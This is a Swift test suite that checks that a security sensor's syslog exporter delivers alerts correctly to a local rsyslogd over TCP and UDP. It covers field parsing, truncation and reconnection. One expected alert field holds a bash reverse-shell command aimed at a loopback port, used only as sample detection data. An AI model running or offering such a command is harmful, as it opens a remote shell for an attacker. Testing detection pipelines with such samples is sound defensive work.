import Foundation
import Glibc
import Testing
@testable import MamoriExport

/// A real rsyslogd on loopback (imtcp + imudp on free 127.0.0.1 ports) writing every message
/// it parsed with its RFC 5424 fields to a file. Stopped by `stop()`.
final class RsyslogFixture {
    let dir = TempDir()
    let tcpPort = freeLoopbackPort()
    let udpPort = freeLoopbackPort(datagram: true)
    var output: String { dir.file("out.log") }
    private var pid: pid_t = 0

    func start() throws {
        let binary = try #require(ExportGate.rsyslogd, "rsyslogd not installed (make deps installs it)")
        let conf = """
        global(workDirectory="\(dir.path)" maxMessageSize="64k")
        module(load="imtcp")
        module(load="imudp")
        input(type="imtcp" port="\(tcpPort)" address="127.0.0.1")
        input(type="imudp" port="\(udpPort)" address="127.0.0.1")
        template(name="fields" type="string" string="%PRI% %TIMESTAMP:::date-rfc3339% %HOSTNAME% %APP-NAME% %PROCID% %MSGID% %STRUCTURED-DATA% %msg%\\n")
        *.* action(type="omfile" file="\(output)" template="fields")
        """
        try conf.write(toFile: dir.file("rsyslog.conf"), atomically: true, encoding: .utf8)
        pid = try spawnWithCleanSignals(binary, ["-n", "-f", dir.file("rsyslog.conf"), "-i", dir.file("rsyslog.pid")])
        let up = eventually(timeout: 10) {
            let fd = connectLoopback(tcpPort)
            if fd >= 0 { close(fd); return true }
            return false
        }
        try #require(up, "rsyslogd did not listen on 127.0.0.1:\(tcpPort)")
    }

    /// SIGTERM, then SIGKILL after 5 s; always reaps the child.
    func stop() {
        guard pid > 0 else { return }
        kill(pid, SIGTERM)
        var status: Int32 = 0
        let exited = eventually(timeout: 5) { waitpid(pid, &status, WNOHANG) == pid }
        if !exited { kill(pid, SIGKILL); waitpid(pid, &status, 0) }
        pid = 0
    }

    func remove() { stop(); dir.remove() }

    var lines: [String] { readLines(output) }
}

/// One line of the fixture's output, split back into the fields rsyslog parsed.
struct ParsedSyslogLine {
    var pri: Int, timestamp: String, hostname: String, appName: String, procID: String, msgID: String
    var structuredData: String
    var msg: [UInt8]

    init?(_ line: String) {
        let bytes = Array(line.utf8)
        let head = line.split(separator: " ", maxSplits: 6, omittingEmptySubsequences: false)
        guard head.count == 7, let pri = Int(head[0]) else { return nil }
        self.pri = pri; timestamp = String(head[1]); hostname = String(head[2]); appName = String(head[3])
        procID = String(head[4]); msgID = String(head[5])
        // SD ends at the first "]" not escaped by a backslash, followed by a space.
        let rest = Array(head[6].utf8)
        var i = 0, escaped = false
        while i < rest.count {
            if escaped { escaped = false } else if rest[i] == 0x5C { escaped = true } else if rest[i] == 0x5D { break }
            i += 1
        }
        guard i < rest.count else { return nil }
        structuredData = String(decoding: rest[0...i], as: UTF8.self)
        msg = Array(rest[(i + 2)...])
        _ = bytes
    }
}

@Suite(.serialized, .enabled(if: ExportGate.rsyslogEnabled))
struct SyslogRsyslogTests {
    private func checkParsed(_ parsed: ParsedSyslogLine, against alert: ExportAlert, facility: SyslogFacility) throws {
        #expect(parsed.pri == facility.rawValue * 8 + alert.severity.syslogSeverity)
        #expect(parsed.timestamp == "2026-11-27T07:12:13.123456Z")
        #expect(parsed.hostname == "sensor-01")
        #expect(parsed.appName == "mamori")
        #expect(parsed.procID == String(getpid()))
        #expect(parsed.msgID == "alert")
        var expectedSD: [UInt8] = Array("[mamori@32473".utf8)
        SyslogFormatter.appendParam("rule", alert.ruleId, to: &expectedSD)
        #expect(parsed.structuredData.hasPrefix(String(decoding: expectedSD, as: UTF8.self)))
        #expect(parsed.structuredData.contains(#"risk="\#(alert.riskScore)""#))
        #expect(parsed.structuredData.contains(#"incident="\#(alert.incidentId)""#))
        #expect(Array(parsed.msg.prefix(3)) == SyslogFormatter.bom)
        let json = try JSONSerialization.jsonObject(with: Data(parsed.msg.dropFirst(3))) as? [String: Any]
        let process = json?["process"] as? [String: Any]
        #expect(process?["command_line"] as? String == "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1 ü")
    }

    private func config(_ fixture: RsyslogFixture, _ transport: SyslogConfig.Transport) -> SyslogConfig {
        var c = SyslogConfig()
        c.address = "127.0.0.1"
        c.port = transport == .tcp ? fixture.tcpPort : fixture.udpPort
        c.transport = transport
        c.facility = .local3
        c.hostname = "sensor-01"
        return c
    }

    @Test func rsyslogParsesEveryFieldOverTCPAndUDP() throws {
        #expect(ExportGate.rsyslogd != nil, "CI=true requires rsyslogd")
        let fixture = RsyslogFixture(); defer { fixture.remove() }
        try fixture.start()
        let tcp = try SyslogExporter(config: config(fixture, .tcp))
        let udp = try SyslogExporter(config: config(fixture, .udp))
        defer { tcp.shutdown(flushTimeout: 1); udp.shutdown(flushTimeout: 1) }

        var sent: [String: ExportAlert] = [:]
        for i in 0..<5 {
            let a = sampleAlert(rule: #"tcp-rule-\#(i) "quoted" \back]slash"#, severity: AlertSeverity(rawValue: i)!, n: i, incident: "inc-t\(i)")
            sent[a.incidentId] = a
            #expect(tcp.submit(a))
        }
        for i in 0..<5 {
            let a = sampleAlert(rule: "udp-rule-\(i)", severity: .medium, n: i, incident: "inc-u\(i)")
            sent[a.incidentId] = a
            #expect(udp.submit(a))
        }
        #expect(eventually { fixture.lines.count >= 10 }, "rsyslog wrote \(fixture.lines.count) of 10 lines")
        var seen = Set<String>()
        for line in fixture.lines {
            let parsed = try #require(ParsedSyslogLine(line), "unparseable: \(line)")
            let incident = try #require(sent.keys.first { parsed.structuredData.contains(#"incident="\#($0)""#) }, "no incident in \(parsed.structuredData)")
            try checkParsed(parsed, against: sent[incident]!, facility: .local3)
            seen.insert(incident)
        }
        #expect(seen.count == 10)
        #expect(tcp.stats.sent == 5 && udp.stats.sent == 5)
        #expect(tcp.stats.dropped == 0 && tcp.stats.failed == 0)
    }

    @Test func udpDatagramIsTruncatedAndMarked() throws {
        let fixture = RsyslogFixture(); defer { fixture.remove() }
        try fixture.start()
        var c = config(fixture, .udp)
        c.maxDatagramBytes = 1024
        let udp = try SyslogExporter(config: c)
        defer { udp.shutdown(flushTimeout: 1) }
        udp.submit(sampleAlert(extraBody: #","pad":""# + String(repeating: "z", count: 4000) + #"""#))
        #expect(eventually { fixture.lines.count >= 1 })
        let parsed = try #require(fixture.lines.first.flatMap(ParsedSyslogLine.init))
        #expect(parsed.structuredData.contains(#"truncated="true""#))
        #expect(parsed.msg.count < 1024)
        #expect(parsed.msg.count > 500)
    }

    @Test func tcpQueuesWhileTheServerIsDownAndReconnects() throws {
        let fixture = RsyslogFixture(); defer { fixture.remove() }
        let tcp = try SyslogExporter(config: config(fixture, .tcp))  // nothing listens yet
        defer { tcp.shutdown(flushTimeout: 1) }
        for i in 0..<3 { tcp.submit(sampleAlert(n: i, incident: "early-\(i)")) }
        #expect(eventually(timeout: 2) { tcp.stats.lastError != nil }, "connect failure not reported")
        #expect(tcp.stats.sent == 0)
        try fixture.start()
        #expect(eventually(timeout: 20) { fixture.lines.count >= 3 }, "got \(fixture.lines.count) lines")
        // The server restarts: the exporter notices the closed connection and reconnects.
        fixture.stop()
        try fixture.start()
        for i in 0..<3 { tcp.submit(sampleAlert(n: i, incident: "late-\(i)")) }
        #expect(eventually(timeout: 20) { fixture.lines.filter { $0.contains("incident=\"late-") }.count == 3 })
        #expect(tcp.stats.sent == 6)
        #expect(tcp.stats.dropped == 0)
    }
}

/// posix_spawn with an empty signal mask and default dispositions: the test runner's threads
/// may block SIGTERM, and a child inheriting that mask could not be stopped.
func spawnWithCleanSignals(_ path: String, _ arguments: [String]) throws -> pid_t {
    var attributes = posix_spawnattr_t()
    posix_spawnattr_init(&attributes)
    defer { posix_spawnattr_destroy(&attributes) }
    var empty = sigset_t()
    sigemptyset(&empty)
    posix_spawnattr_setsigmask(&attributes, &empty)
    var defaults = sigset_t()
    sigemptyset(&defaults)
    for s in [SIGTERM, SIGINT, SIGHUP, SIGPIPE] { sigaddset(&defaults, s) }
    posix_spawnattr_setsigdefault(&attributes, &defaults)
    posix_spawnattr_setflags(&attributes, Int16(POSIX_SPAWN_SETSIGMASK | POSIX_SPAWN_SETSIGDEF))
    var actions = posix_spawn_file_actions_t()
    posix_spawn_file_actions_init(&actions)
    defer { posix_spawn_file_actions_destroy(&actions) }
    posix_spawn_file_actions_addopen(&actions, 1, "/dev/null", O_WRONLY, 0)
    posix_spawn_file_actions_addopen(&actions, 2, "/dev/null", O_WRONLY, 0)
    let argv: [UnsafeMutablePointer<CChar>?] = ([path] + arguments).map { strdup($0) } + [nil]
    defer { for a in argv { free(a) } }
    var pid: pid_t = 0
    let rc = posix_spawn(&pid, path, &actions, &attributes, argv, environ)
    guard rc == 0 else { throw ExportError.socket(operation: "posix_spawn \(path)", errno: rc) }
    return pid
}
